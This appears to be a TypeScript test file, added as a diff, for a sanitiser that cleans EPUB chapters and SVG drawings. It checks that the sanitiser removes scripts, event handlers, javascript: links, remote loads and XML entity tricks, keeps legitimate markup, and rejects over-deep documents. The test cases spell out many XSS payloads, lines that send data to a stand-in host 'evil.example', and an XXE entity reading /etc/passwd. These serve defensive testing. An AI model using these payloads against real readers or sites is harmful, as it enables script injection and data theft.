@@ -1,0 +1,210 @@
+import { describe, expect, it } from 'vitest';
+import { chapterOf } from '../testing/an-epub.ts';
+import { createReferences, sanitiseDocument } from './index.ts';
+
+const files = new Set(['one.xhtml', 'two.xhtml', 'a.png', 'a.svg', 'book.css']);
+
+function clean(text: string | Uint8Array, kind: 'xhtml' | 'svg' = 'xhtml') {
+  const removed: string[] = [];
+  const references = createReferences('one.xhtml', (name) => (files.has(name) ? name : undefined));
+  const bytes = typeof text === 'string' ? Buffer.from(text) : text;
+  return {
+    ...sanitiseDocument(bytes, 'one.xhtml', kind, { references, onRemoved: (what) => void removed.push(what) }),
+    removed,
+  };
+}
+const bodyOf = (body: string): string => {
+  const { markup } = clean(chapterOf(body));
+  return markup.slice(markup.indexOf('<body>') + 6, markup.indexOf('</body>'));
+};
+const svgOf = (inside: string): string =>
+  clean(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`, 'svg')
+    .markup;
+
+describe('what is taken out of a chapter', () => {
+  it.each([
+    '<script>steal()</script>',
+    '<script src="http://evil.example/x.js"></script>',
+    '<p onclick="steal()">x</p>',
+    '<p ONMOUSEOVER="steal()">x</p>',
+    '<img src="x" onerror="steal()"/>',
+    '<iframe src="javascript:steal()"></iframe>',
+    '<iframe srcdoc="&lt;script>steal()&lt;/script>"></iframe>',
+    '<object data="evil.html"></object>',
+    '<embed src="evil.swf"/>',
+    '<form action="http://evil.example"><button formaction="http://evil.example">steal</button></form>',
+    '<a href="javascript:steal()">x</a>',
+    '<a href="data:text/html,steal()">x</a>',
+    '<a href="two.xhtml" ping="http://evil.example">x</a>',
+    '<img src="http://evil.example/x.png"/>',
+    '<img srcset="http://evil.example/x.png 2x" src="a.png"/>',
+    '<img attributionsrc="http://evil.example" src="a.png"/>',
+    '<video poster="http://evil.example/x.png"><source src="http://evil.example/x.mp4"/></video>',
+    '<table background="http://evil.example/x.png"><tr><td>x</td></tr></table>',
+    '<p style="background: url(http://evil.example)">x</p>',
+    '<style>@import "http://evil.example";</style>',
+    '<link rel="stylesheet" href="http://evil.example/x.css"/>',
+    '<link rel="preconnect" href="http://evil.example"/>',
+    '<base href="http://evil.example/"/>',
+    '<meta http-equiv="refresh" content="0;url=http://evil.example"/>',
+    '<template><script>steal()</script></template>',
+    '<portal src="http://evil.example"></portal>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>',
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:steal()"><text>x</text></a></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:steal()"/><text>x</text></a></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,steal"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x.png"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(http://evil.example/x#y)"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/></foreignObject></svg>',
+    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:steal()">x</mi></math>',
+    '<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">steal()</script></annotation-xml></math>',
+    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script>',
+    '<?xml-stylesheet href="http://evil.example"?>',
+    '<!-- steal() -->',
+    '<p xml:base="http://evil.example/">x</p>',
+  ])('%s', (body) => {
+    expect(bodyOf(body)).not.toMatch(/evil|steal\(|javascript|<script|refresh|srcdoc/i);
+  });
+
+  it('is told, so that the author can be told', () => {
+    const { removed } = clean(
+      chapterOf('<script>1</script><p onclick="2">x</p><a href="javascript:3">x</a><iframe src="x"/>'),
+    );
+    expect(removed).toEqual(['a script', 'an event handler', 'a link', 'an embedded file']);
+  });
+
+  it('takes names from pictures, which would shadow the document', () => {
+    expect(bodyOf('<img name="body" src="a.png" alt=""/><a name="target">x</a>')).toBe(
+      '<img src="a.png" alt=""/><a name="target">x</a>',
+    );
+  });
+
+  it('puts a notice where an embedded file stood, and a picture where it was one', () => {
+    expect(bodyOf('<iframe src="game.html"></iframe>')).toContain('role="note"');
+    expect(bodyOf('<object data="a.svg" type="image/svg+xml">A crane</object>')).toBe(
+      '<img src="a.svg" alt="A crane"/>',
+    );
+    expect(bodyOf('<object data="game.swf"><p>Instead</p></object>')).toBe('<p>Instead</p>');
+  });
+
+  it('is gone from a chapter that is not well-formed as well', () => {
+    const { markup, wasRepaired } = clean(
+      '<html><body><p>One<p>Two<img src=a.png onerror=steal()><svg><script>steal()</script></svg><br></body>',
+    );
+    expect(wasRepaired).toBe(true);
+    expect(markup).toContain('<p>One</p><p>Two<img src="a.png"/>');
+    expect(markup).not.toContain('steal');
+  });
+});
+
+describe('what stays', () => {
+  it.each([
+    '<section epub:type="chapter" role="doc-chapter" aria-label="One"><h1 id="h">One</h1></section>',
+    '<p lang="ja" class="tcy"><ruby>漢<rt>かん</rt></ruby>字</p>',
+    '<p>1 &lt; 2 &amp; 3 &gt; 2</p>',
+    '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block"><mfrac><mi>a</mi><mo stretchy="false">(</mo></mfrac></math>',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><linearGradient id="g"/><path d="M0 0" fill="url(&quot;#g&quot;)" transform="translate(1,2)"/></svg>',
+    '<a epub:type="noteref" href="two.xhtml#n1">1</a>',
+    '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
+    '<audio controls="controls"></audio>',
+  ])('%s', (body) => {
+    expect(bodyOf(body)).toBe(body);
+  });
+
+  it('opens links to the world outside of the book, and tells the other side nothing', () => {
+    expect(bodyOf('<a href="https://example.org/" target="_top" rel="opener">x</a>')).toBe(
+      '<a href="https://example.org/" rel="noopener noreferrer nofollow" target="_blank">x</a>',
+    );
+  });
+
+  it('keeps the page size of a fixed layout and the style sheets of the book', () => {
+    const { markup } = clean(
+      chapterOf(
+        '<p>x</p>',
+        '<meta charset="x"/><meta name="viewport" content="width=600, height=800"/><link rel="stylesheet" href="book.css" type="text/css"/>',
+      ),
+    );
+    expect(markup).toContain('<meta name="viewport" content="width=600, height=800"/>');
+    expect(markup).toContain('<link rel="stylesheet" type="text/css" href="book.css"/>');
+    expect(markup).not.toContain('charset');
+  });
+
+  it('shows the case of a switch that browsers know', () => {
+    const choose = (namespace: string) =>
+      bodyOf(
+        `<epub:switch><epub:case required-namespace="${namespace}"><p>case</p></epub:case><epub:default><p>default</p></epub:default></epub:switch>`,
+      );
+    expect(choose('http://www.w3.org/1998/Math/MathML')).toBe('<p>case</p>');
+    expect(choose('http://www.xml-cml.org/schema')).toBe('<p>default</p>');
+  });
+
+  it('reads named characters, other encodings and prefixes that nobody declared', () => {
+    expect(bodyOf('<p>a&nbsp;b&hellip;</p>')).toBe('<p>a\u00a0b…</p>');
+    const latin = clean(
+      Buffer.from(
+        '<?xml version="1.0" encoding="ISO-8859-1"?><html xmlns="http://www.w3.org/1999/xhtml"><head/><body>\xe9</body></html>',
+        'latin1',
+      ),
+    );
+    expect(latin.markup).toContain('<body>é</body>');
+    const wide = clean(Buffer.from(`\uFEFF${chapterOf('<p>wide</p>')}`, 'utf16le'));
+    expect(wide.markup).toContain('<p>wide</p>');
+    expect(
+      clean('<html xmlns="http://www.w3.org/1999/xhtml"><head/><body><p epub:type="x">y</p></body></html>').markup,
+    ).toContain('<p epub:type="x">');
+  });
+
+  it('expands no entity that a document declares', () => {
+    const { markup } = clean(
+      `<!DOCTYPE html [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]>${chapterOf('<p>&b;&x;</p>').replace(/^<\?xml.*\n/, '')}`,
+    );
+    expect(markup).not.toMatch(/aaaa|root:/);
+  });
+
+  it('gives every chapter a head and a body', () => {
+    expect(clean('<html xmlns="http://www.w3.org/1999/xhtml"><p>x</p></html>').markup).toContain(
+      '<head></head>\n<body><p>x</p></body>',
+    );
+    expect(clean('').markup).toContain('<body></body>');
+  });
+});
+
+describe('drawings', () => {
+  it.each([
+    '<script>steal()</script>',
+    '<animate attributeName="xlink:href" values="javascript:steal()"/>',
+    '<handler type="application/ecmascript">steal()</handler>',
+    '<style>@import "http://evil.example";</style>',
+    '<rect style="fill:url(http://evil.example#x)"/>',
+    '<feImage xlink:href="http://evil.example"/>',
+    '<use xlink:href="http://evil.example/a.svg#x"/>',
+  ])('lose %s', (inside) => {
+    expect(svgOf(inside)).not.toMatch(/evil|steal/);
+  });
+
+  it('keep what draws', () => {
+    const inside =
+      '<defs><g id="g"/></defs><use xlink:href="#g"/><animate attributeName="opacity" to="1"/><image xlink:href="data:image/png;base64,AAAA"/>';
+    expect(svgOf(inside)).toContain(inside);
+  });
+
+  it('that are no XML at all become an empty picture', () => {
+    expect(clean('GIF89a', 'svg').markup).toContain('<svg xmlns="http://www.w3.org/2000/svg"/>');
+  });
+});
+
+describe('documents that would exhaust a reader', () => {
+  it('are refused when they nest too deep', () => {
+    const deep = chapterOf('<div>'.repeat(2000) + '</div>'.repeat(2000));
+    expect(() => clean(deep)).toThrow(expect.objectContaining({ code: 'epub_content_too_deep', entry: 'one.xhtml' }));
+    expect(() => clean('<div>'.repeat(2000))).toThrow(expect.objectContaining({ code: 'epub_content_too_deep' }));
+  });
+
+  it('are refused when misnested formatting multiplies', () => {
+    const formatting = Array.from({ length: 500 }, (_, index) => `<b id="${index}">`).join('');
+    expect(() => clean(`<p>${formatting}${'</p><p>x'.repeat(20_000)}`)).toThrow(
+      expect.objectContaining({ code: 'epub_content_too_large' }),
+    );
+  });
+});
